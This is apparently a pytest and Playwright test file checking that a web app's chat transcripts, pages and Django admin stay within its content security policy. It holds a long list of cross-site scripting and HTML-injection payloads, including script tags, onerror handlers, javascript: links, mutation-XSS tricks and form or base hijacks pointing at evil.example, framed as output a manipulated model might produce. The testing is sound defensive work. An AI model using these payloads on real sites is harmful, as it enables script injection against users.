"""Nothing that is shown breaks the content security policy: not what a model writes, no page, and not the admin."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect

from tests.browser.peer import Peer
from tests.services.processes import HANGS_AFTER_S, wait_until
from tests.services.web import WebServer

HOSTILE = (
    "<p style='position:fixed' class=toast id=main data-x=1>words</p>",
    "text <b style=color:red onclick=alert(1)>inline</b>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1) style=width:9px>",
    "<img src=data:image/png;base64,AAAA srcset='//evil.example/x 2x'>",
    "![pixel](https://evil.example/pixel.gif) ![data](data:image/png;base64,AAAA)",
    "<svg onload=alert(1)><style>*{}</style><script>alert(1)</script><use href=data:image/svg+xml,x#x /></svg>",
    "<math><mi style=color:red xlink:href=javascript:alert(1)>x</mi><annotation-xml encoding=text/html><p onclick=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "[link](javascript:alert(1)) [data](data:text/html,x) <javascript:alert(1)> <a href=javascript:alert(1)>x</a>",
    "[t](https://evil.example '\" onmouseover=alert(1) style=x \"')",
    "[ref]\n\n[ref]: javascript:alert(1) 'title'",
    "<base href=//evil.example/><form action=//evil.example/><input name=q autofocus onfocus=alert(1)></form>",
    "<form id=main name=body><input name=attributes><input name=children></form>",
    "<a id=defaultView></a><a id=documentElement name=cookie></a><img name=currentScript>",
    "<iframe srcdoc='<script>alert(1)</script>' style=border:0></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content=0;url=//evil.example/><meta http-equiv=Content-Security-Policy content=x>",
    "<template><p style=x onclick=x></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video poster=x onerror=alert(1)><source src=x onerror=alert(1)></video><audio src=x autoplay>",
    "<details open ontoggle=alert(1) style=x><summary>x</summary></details><dialog open>",
    "<custom-element style=x onclick=x>\n\n**between**\n\n</custom-element>",
    "<div\nstyle=color:red\nonclick=alert(1)\n>over lines</div>",
    "<!-- <p style=x> --><p style=x><![CDATA[<p style=x>]]><?php <p style=x> ?><!DOCTYPE html [<p style=x>]>",
    "| a | b |\n|:-:|--:|\n| <b style=x>1</b> | <td style=x> |\n\n- [ ] task\n- [x] <i onclick=x>done</i>",
    "```html style=x onclick=x\n<p style=x onclick=x>\n```\n\n`<p style=x>` ~~<p style=x>~~ # <h1 style=x>",
    "&lt;p style=x&gt; &#60;img src=x onerror=alert(1)&#62; \\<p style=x>",
    "# <svg style=x>\n> <p style=x>\n\n1. <p style=x onclick=x>\n\n    <p style=x>",
    "<plaintext style=x>", "<textarea><p style=x>", "<title style=x>",
    "<xmp><p style=x></xmp>", "<body style=x onload=x>",
    "<p style=x", "<p style='x", "< p style=x>", "</p style=x>", "<\u0000p style=x>", "<p/style=x/onclick=x>",
)  # fmt: skip
"""Answers as a model that was talked into mischief might write them."""

NOTE_VIOLATIONS = """
window.refusedByPolicy = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refusedByPolicy.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
});
"""


CONVERSE = """
from django.contrib.auth.models import User
from tests.pages.history_rows import converse
alice = User.objects.get(username="alice")
said = ("Hello", "<b style=x onclick=x>Well</b>")
happened = ((0, "connected", {"action": "new"}), (9, "connection_lost", {"reason": "<p style=x>"}))
print(converse(alice, *said, title="<p style=x onclick=x>", summary="<p style=x>", events=happened).pk)
"""

LINKS_OF_ADMIN = """(links) => links.filter((link) => link.origin === location.origin && !link.search)
    .map((link) => link.pathname).filter((path) => /^\\/admin\\/.*\\/$/.test(path))"""
"""Of a page, without filters, orders and files."""

FILTERED = "/admin/sessions_app/conversation/?mode__exact=call&started_at__year=2026&started_at__month=11&o=-1&q=Well"


def kind_of(path: str) -> str:
    """A path without ids: `/admin/auth/user/#/change/`."""
    return re.sub(r"/(\d+|[0-9a-f-]{36})(?=/)", "/#", path.partition("?")[0])


class Watched:
    """A page with everything that its console and its policy said."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.console: list[str] = []
        page.on("console", self._note_console)
        page.on("pageerror", lambda error: self.console.append(str(error)))
        page.add_init_script(NOTE_VIOLATIONS)

    def _note_console(self, message: ConsoleMessage) -> None:
        if message.type in ("warning", "error"):
            self.console.append(message.text)

    def refused(self) -> list[str]:
        """What the policy of the document that is open now refused."""
        refused: list[str] = self.page.evaluate("window.refusedByPolicy")
        return refused

    def assert_quiet(self, what: str) -> None:
        assert self.refused() == [], what
        assert self.console == [], what


@pytest.fixture
def watch(
    web: WebServer, open_context: Callable[..., BrowserContext], sign_in: Callable[..., Page]
) -> Callable[[str], Watched]:
    """A new page of somebody's that is watched: `watch("alice")`."""
    return lambda name: Watched(sign_in(open_context(web, reduced_motion="reduce"), name))


@pytest.mark.parametrize("mode", ["text", "call"])
def test_nothing_a_model_writes_breaks_the_policy_or_says_a_word_in_the_console(
    watch: Callable[[str], Watched], mode: str
) -> None:
    watched = watch("alice")
    told: list[dict[str, Any]] = [
        {"turn": number, "role": "model", "text": text, "status": "complete"} for number, text in enumerate(HOSTILE)
    ]
    peer = Peer(watched.page, mode, transcript=told[: len(told) // 2])
    watched.page.goto(f"/{mode}/")
    if mode == "call":
        watched.page.get_by_role("button", name="Start the call").click()
    expect(watched.page.locator("html")).to_have_attribute("data-state", "live")
    for turn in told[len(told) // 2 :]:
        peer.turn(turn["turn"], "model", turn["text"][: len(turn["text"]) // 2], "partial")
        peer.turn(turn["turn"], "model", turn["text"])
    expect(watched.page.locator(".turn[data-status=complete]")).to_have_count(len(told))
    watched.assert_quiet(mode)
    made = watched.page.locator(".turn").evaluate_all(
        """(turns) => [...new Set(turns.flatMap((turn) => [...turn.querySelectorAll("*")])
            .filter((node) => !node.closest("button")).map((node) => node.localName))]"""
    )
    assert not {"img", "script", "style", "iframe", "form", "input", "svg", "math", "link", "base"} & set(made), made


@pytest.fixture
def conversation(web: WebServer) -> str:
    """A conversation of Alice's whose title and words are hostile; its id."""
    return web.shell(CONVERSE).strip()


def test_no_page_breaks_the_policy(watch: Callable[[str], Watched], conversation: str) -> None:
    watched = watch("alice")
    below = (f"/history/{conversation}/{page}" for page in ("", "rename/", "delete/"))
    account = ("/account/", "/account/email/", "/account/password/", "/account/delete/", "/accounts/reset/")
    history = ("/history/", "/history/?q=Well", *below, "/history/delete-all/")
    for path in ("/", "/text/", "/call/", *history, *account, "/nowhere/"):
        Peer(watched.page, "text")
        watched.page.goto(path)
        assert watched.refused() == [], path
    assert [line for line in watched.console if "404" not in line] == []


def test_no_page_of_the_admin_breaks_the_policy(watch: Callable[[str], Watched], conversation: str) -> None:
    """Follows every link from the first page on, to one page of each kind."""
    watched = watch("sam")
    to_see, seen = ["/admin/", FILTERED, f"{FILTERED}&_facets=True"], set[str]()
    while to_see:
        path = to_see.pop()
        if kind_of(path) in seen and "?" not in path:
            continue
        seen.add(kind_of(path))
        watched.page.goto(path)
        watched.assert_quiet(path)
        to_see += watched.page.locator("a[href]").evaluate_all(LINKS_OF_ADMIN)
    assert {"/admin/energy/persona/add/", "/admin/auth/user/#/change/", "/admin/auth/user/#/password/"} <= seen
    assert {f"/admin/sessions_app/conversation/{page}" for page in ("", "#/change/", "#/history/")} <= seen
    assert len(seen) > 30


def test_what_the_scripts_of_the_admin_do_works_under_the_policy(watch: Callable[[str], Watched]) -> None:
    watched = watch("sam")
    page = watched.page
    page.goto("/admin/auth/user/?q=alice")
    page.locator("#result_list tbody th a").click()
    page.locator(".datetimeshortcuts a").first.click()  # "Today"
    expect(page.locator("#id_last_login_0")).not_to_have_value("")
    page.locator(".date-icon").first.click()
    expect(page.locator(".calendarbox").first).to_be_visible()
    page.keyboard.press("Escape")
    page.locator("#id_user_permissions_from option").first.click()
    page.locator("#id_user_permissions_add").click()
    expect(page.locator("#id_user_permissions_to option")).to_have_count(1)
    watched.assert_quiet("a user")
    page.goto("/admin/energy/persona/add/")
    rows = page.locator(".inline-related.dynamic-notices, tr.dynamic-notices")
    before = rows.count()
    page.locator(".add-row a").click()
    expect(rows).to_have_count(before + 1)
    watched.assert_quiet("a persona")
    page.goto("/admin/auth/user/")
    page.locator("#action-toggle").check()
    page.locator("select[name=action]").select_option("delete_selected")
    page.get_by_role("button", name="Go").click()
    expect(page.get_by_role("heading", name="Delete multiple objects")).to_be_visible()
    watched.assert_quiet("the question whether to delete")


def test_what_breaks_the_policy_is_reported_and_logged_without_its_words(
    web: WebServer, launch_chromium: Callable[[Path | None], Browser]
) -> None:
    """In a context of its own, for the policy is broken on purpose."""
    context = launch_chromium(None).new_context(base_url=web.url)
    page = context.new_page()
    page.goto("/accounts/login/")
    page.evaluate("document.body.setAttribute('style', 'content: \"heron\"')")
    told = "A page broke the content security policy: style-src-attr refused inline on /accounts/login/."
    wait_until(lambda: told in web.log(), HANGS_AFTER_S, "the report in the log")
    context.close()
    assert "heron" not in web.log()
